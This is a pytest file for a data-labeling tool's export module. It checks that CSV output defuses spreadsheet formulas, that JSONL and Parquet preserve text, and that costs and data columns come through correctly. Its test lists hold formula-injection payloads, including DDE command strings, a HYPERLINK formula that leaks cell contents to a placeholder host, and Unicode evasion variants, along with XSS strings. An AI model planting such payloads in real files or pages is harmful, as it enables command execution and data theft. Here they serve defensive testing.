"""Exports: what a spreadsheet must not run, and what must come through unchanged."""

import csv
import io
import json
import unicodedata

import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support.projects import CLASSES, edit_config, make_project, write_pool
from typer.testing import CliRunner

from curator.cli.app import app
from curator.pool.reading import Reading
from curator.project.project import Project
from curator.rounds.run import run_round
from curator.rounds.settle import settle
from curator.rounds.store import store
from curator.start.add import add_to_pool
from curator.views.export import SCHEMA, _defused, export_answers, export_labels, labeled_rows, own_columns
from integrations.labelers.protocol import Answer, Pulled, QuestionAnswers

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://host/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    "\rtext",
    "   =1+1",
    "\xa0\u3000=1+1",
    "\ufeff=1+1",
    "\u200b\u2060=1+1",
    "\x00\x1b=1+1",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    " \uff1d1+1",
    "\ufe661+1",
    "\u22121+1",
    "text;=1+1",
    "text; =1+1",
    "text\t=1+1",
    "line\n=1+1",
    "line\r\n+1+1",
    '";=1+1',
    'x;"=1+1;y',
    'x|""=1+1',
    'x\t" =1+1',
    '"=1+1"',
    "a;b;@SUM(1)",
]
HARMLESS = [
    "text",
    "a, -b",
    "a = b",
    "a-b",
    "me@example.org",
    "1+1",
    "'=1+1",
    "(=1)",
    'say "hello"',
    "-1",
    "+1",
    "-12.5",
    "a; b",
    "two\nlines",
    "<script>alert(1)</script>",
    "",
]


def begins_a_formula(cell):
    """As the most generous of spreadsheets would see it."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    seen = [c for c in cell if unicodedata.category(c) not in ("Cc", "Cf", "Zs", "Zl", "Zp")]
    seen = [c for c in seen if c != '"']
    return bool(seen) and unicodedata.normalize("NFKC", seen[0])[0] in "=+-@\u2212"


def cells(text, delimiter):
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_defused(text):
    """In the cell, and in the cells that a file opened with another separator would be torn into."""
    out = _defused(text)
    assert out != text
    assert out.replace("'", "") == text.replace("'", "")
    assert not begins_a_formula(out)
    for delimiter in ";\t":
        for cell in cells(f"first,{out.replace(chr(0), '')}", delimiter):
            assert not begins_a_formula(cell.lstrip("\t")), cell


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_and_numbers_stay(text):
    """Classes such as -1 are no formulas; markup is nothing to a spreadsheet."""
    assert _defused(text) == text


@pytest.mark.parametrize("value", [None, 3, -3, 0.5])
def test_what_is_no_text_stays(value):
    """Numbers are ours."""
    assert _defused(value) is value


@settings(max_examples=500, deadline=None)
@given(
    parts=st.lists(
        st.sampled_from([*"=+-@\uff1d\u2212;,\t\r\n \ufeff\u200b\"'ab1"]) | st.characters(), max_size=12
    )
)
def test_no_text_begins_a_formula(parts):
    """Whatever the text, as a whole and after each separator; taking the apostrophes away gives it back."""
    text = "".join(parts)
    out = _defused(text)
    assert out.replace("'", "") == text.replace("'", "")
    if out == text and text.lstrip("+-").replace(".", "").isdecimal():
        return  # a number
    assert not begins_a_formula(out)
    for cell in out.replace("\r", ";").replace("\n", ";").replace("\t", ";").split(";"):
        assert not begins_a_formula(cell)


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    """A measured round over hostile texts, ids and classes, in all three formats; and its texts by item id."""
    base = tmp_path_factory.mktemp("export")
    data = write_pool(base / "pool.jsonl", 60)
    rows = [json.loads(line) for line in data.read_text("utf-8").splitlines()]
    hostile = [*FORMULAS, "<script>alert('x')</script>", '"><img src=x onerror=alert(1)>', "]]>&amp;\u2028"]
    hostile = [text.replace("\x00", "") for text in hostile]
    for number, row in enumerate(rows):
        row["text"] = f"{hostile[number % len(hostile)]} {row['text']} {number}"
        row["id"] = f"={row['id']}"
        row["label"] = {"red": "=red()", "green": "@green", "blue": "<b>blue</b>"}[row["label"]]
    data.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    folder = make_project(base / "project", data=data, holdout="20")
    with Project(folder) as project:
        for _ in range(2):
            run_round(project)
        for ending in ("csv", "jsonl", "parquet"):
            assert export_labels(project, base / f"labels.{ending}").rows == 30
        raw = export_labels(project, base / "raw.csv", raw=True)
        assert (raw.rows, raw.defused) == (30, 0)
    return base, {row["id"]: row for row in rows}


def test_a_csv_export_runs_nothing(exported):
    """No cell of the file begins a formula, header included, whichever separator it is opened with."""
    base, _ = exported
    text = (base / "labels.csv").read_text("utf-8")
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    assert header == SCHEMA.names
    assert len(rows) == 30
    given = {
        cell for row in rows for name, cell in zip(header, row, strict=True) if name in ("item_id", "label")
    }
    for row in [header, *rows]:
        for cell in row:
            assert cell in given or not begins_a_formula(cell), cell
    for delimiter in ";\t|":
        for cell in cells(text, delimiter):
            assert not begins_a_formula(cell) or any(cell.startswith(f"{one},") for one in given), cell


def test_ids_and_classes_join_with_the_data(exported):
    """They are as given in CSV too; raw, the texts are as well."""
    base, rows = exported
    for name in ("labels.csv", "raw.csv"):
        with (base / name).open(encoding="utf-8", newline="") as file:
            found = list(csv.DictReader(file))
        assert {row["item_id"]: row["label"] for row in found}.items() <= {
            item_id: row["label"] for item_id, row in rows.items()
        }.items()
    assert {row["text"] for row in found} <= {row["text"] for row in rows.values()}


def test_jsonl_and_parquet_hold_texts_as_they_are(exported):
    """Formulas and markup alike: quoting is the format's own, and no HTML is made of them."""
    base, rows = exported
    lines = (base / "labels.jsonl").read_text("utf-8").split("\n")[:-1]
    found = [json.loads(line) for line in lines]
    assert len(found) == 30
    assert pq.read_table(base / "labels.parquet").to_pylist() == found
    for row in found:
        assert row["text"] == rows[row["item_id"]]["text"]
        assert row["label"] == rows[row["item_id"]]["label"]
    assert {row["label"] for row in found} <= {"=red()", "@green", "<b>blue</b>"}
    assert len(CLASSES) == 3


@pytest.fixture
def with_columns(tmp_path):
    """A measured campaign over data with columns of its own, one of which is called as one of ours."""
    data = write_pool(tmp_path / "pool.jsonl", 60)
    rows = [json.loads(line) for line in data.read_text("utf-8").splitlines()]
    for number, row in enumerate(rows):
        row |= {"customer": f"c-{number}", "round": number, "note": "=1+1" if number % 2 else None}
    data.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    folder = make_project(tmp_path / "project", data=data, holdout="20")
    with Project(folder) as project:
        for _ in range(2):
            run_round(project)
        yield project, tmp_path, {row["id"]: row for row in rows}


def test_the_datas_own_columns_stand_behind_ours(with_columns):
    """Ours first and in their order; a column with a name of ours is renamed; what curator uses is there once."""
    project, folder, rows = with_columns
    exported = export_labels(project, folder / "labels.jsonl")
    assert exported.notes == ()
    found = [json.loads(line) for line in (folder / "labels.jsonl").read_text("utf-8").splitlines()]
    assert list(found[0]) == [*SCHEMA.names, "customer", "data_round", "note"]
    for row in found:
        source = rows[row["item_id"]]
        assert row["customer"] == source["customer"]
        assert row["data_round"] == str(source["round"])
        assert row["note"] == source["note"]
    export_labels(project, folder / "ours.jsonl", columns=False)
    first = json.loads((folder / "ours.jsonl").read_text("utf-8").split("\n")[0])
    assert list(first) == SCHEMA.names


def test_a_data_file_that_is_gone_is_said(with_columns):
    """The labels are written all the same; an added file is read as well."""
    project, folder, rows = with_columns
    more = write_pool(folder / "more.jsonl", 5, seed=7)
    add_to_pool(project, more)
    own, notes = own_columns(project, [*rows, *project.pool.ids(range(60, 65))])
    assert len(own) == 60
    assert notes == ()
    (folder / "pool.jsonl").rename(folder / "elsewhere.jsonl")
    exported = export_labels(project, folder / "labels.parquet")
    assert exported.rows == 30
    assert "pool.jsonl" in exported.notes[0]
    assert pq.read_table(folder / "labels.parquet").column_names == SCHEMA.names


def test_columns_of_a_file_that_was_added_in_its_own_way(tmp_path):
    """Written with another delimiter, and with a row that was left out then: the export reads it like that again."""
    first, more = tmp_path / "pool.csv", tmp_path / "more.csv"
    rows = [f"t{i},{CLASSES[i % 3]} thing {i},{CLASSES[i % 3]},c-{i}" for i in range(30)]
    first.write_text("\n".join(["id,text,label,customer", *rows]) + "\n", encoding="utf-8")
    more.write_text("id~text~label~customer\nn1~a new one~red~c-n1\nn2~~red~c-n2\n", encoding="utf-8")
    folder = make_project(tmp_path / "p", data=first, batch=5, holdout="10", id="id", encoder="tfidf")
    with Project(folder) as project:
        add_to_pool(project, more, reading=Reading(delimiter="~"), skip_bad_rows=tmp_path / "bad.csv")
        own, notes = own_columns(project, ["t0", "n1"])
    assert notes == ()
    assert own == {"t0": {"customer": "c-0"}, "n1": {"customer": "c-n1"}}


def test_every_answer_is_a_row(with_columns):
    """With who gave it, what it cost, and what it was: the costs add up to the bill."""
    project, folder, rows = with_columns
    exported = export_answers(project, folder / "answers.parquet")
    found = pq.read_table(folder / "answers.parquet").to_pylist()
    assert exported.rows == len(found) == 30
    assert {row["outcome"] for row in found} == {"label"}
    assert all(row["label"] == rows[row["item_id"]]["label"] for row in found)
    assert round(sum(row["cost"] for row in found), 6) == 30 * 0.08
    assert [row["item_id"] for row in found] == sorted(row["item_id"] for row in found)


def test_the_command_says_what_it_changed(with_columns):
    """On stderr; the count is part of the JSON."""
    project, folder, _ = with_columns
    args = ["export", str(folder / "out.csv"), "--project", str(project.folder)]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    assert "got an apostrophe" in result.stderr
    assert "--raw" in result.stderr
    raw = CliRunner().invoke(app, [*args, "--raw", "--json"])
    found = json.loads(raw.stdout)
    assert found.pop("agreement")["shared"] == 0
    assert found == {"labels": 30, "path": str(folder / "out.csv"), "defused": 0}
    assert "apostrophe" not in raw.stderr
    answers = CliRunner().invoke(app, [*args, "--answers"])
    assert "30 answers written" in answers.stdout


def test_an_item_costs_all_that_was_paid_for_its_answers(tmp_path):
    """Two annotators at different rates, capped time, an edit, a review: the price of an item is their sum, to the cent."""
    root = make_project(tmp_path / "p", n=90, batch=4, holdout="6", hourly_rate="36")
    edit_config(
        root, "review_share = 0.0", 'review_share = 0.5\nannotators."bob" = {price_per_label = "0.25"}'
    )
    edit_config(root, "# review_price = ", 'review_price = "0.10" # ')
    with Project(root) as project:
        run_round(project)
        asked = project.ledger.rows("select key, item_id from questions where role = 'train' order by rank")
        key, item = asked[0]["key"], asked[0]["item_id"]
        rest = {row["key"]: (_answer(row["key"], n, 10.0),) for n, row in enumerate(asked[1:])}
        first = {key: (_answer(key, 91, 2.0), _answer(key, 92, 5.0, "bob"))}
        store(project, _pulled(rest | first), 1, accept_loss=False)
        edited = {key: (_answer(key, 91, 3.5), _answer(key, 92, 5.0, "bob"))}
        store(project, _pulled(edited), 1, accept_loss=False)
        settle(project.ledger, project.task, 1, partial=True)
        prices = {row["item_id"]: row["cost"] for row in labeled_rows(project)}
    # 3.5 s at a cent, 25 cents, and half of 10 cents for each of the two answers
    assert prices[item] == pytest.approx(0.035 + 0.25 + 2 * 0.05)
    assert {price for other, price in prices.items() if other != item} == {0.15}


def _answer(key, number, seconds, annotator="ada"):
    return Answer(
        source_id=f"{key}@{number}", annotator=annotator, label="red", skipped=False, seconds=seconds,
        created_at="2026-01-02T03:04:05.000000Z", updated_at="2026-01-02T03:04:05.000000Z",
    )  # fmt: skip


def _pulled(answers):
    questions = tuple(QuestionAnswers(key, f"at-{key}", found) for key, found in answers.items())
    return Pulled(questions=questions, cursor="1", complete=False)


def test_answers_that_were_deleted_are_said_so_that_the_file_adds_up_to_the_bill(with_columns):
    """What was paid for them stays on the bill."""
    project, folder, _ = with_columns
    key = project.ledger.scalar("select key from questions where role = 'train' and round = 1 order by rank")
    store(project, _pulled({key: ()}), 1, accept_loss=False)
    exported = export_answers(project, folder / "answers.jsonl")
    assert exported.rows == 29
    assert exported.notes == (
        "1 answer deleted at the labeler is not in the file; what was paid for it stays on the bill: $0.08.",
    )


def test_a_copy_stands_for_an_original_that_was_deleted(with_columns):
    """The tasks were exported and imported into another project: each answer is one row, at the price of the original."""
    project, folder, _ = with_columns
    made = project.ledger.one(
        "select a.* from questions q join answers a on a.key = q.key where q.role = 'train' order by q.round, q.rank"
    )
    copies = tuple(
        Answer(
            source_id=f"copy-{n}", annotator="owner", label=made["label"], skipped=False, seconds=made["seconds"],
            created_at="2027-01-02T03:04:05.000000Z", updated_at="2027-01-02T03:04:05.000000Z",
            import_id=made["source_id"].partition("@")[0],
        )
        for n in (1, 2)
    )  # fmt: skip
    store(project, _pulled({made["key"]: copies}), 1, accept_loss=False)
    exported = export_answers(project, folder / "answers.parquet")
    assert (exported.rows, exported.notes) == (30, ())
    found = pq.read_table(folder / "answers.parquet").to_pylist()
    assert round(sum(row["cost"] for row in found), 6) == 30 * 0.08
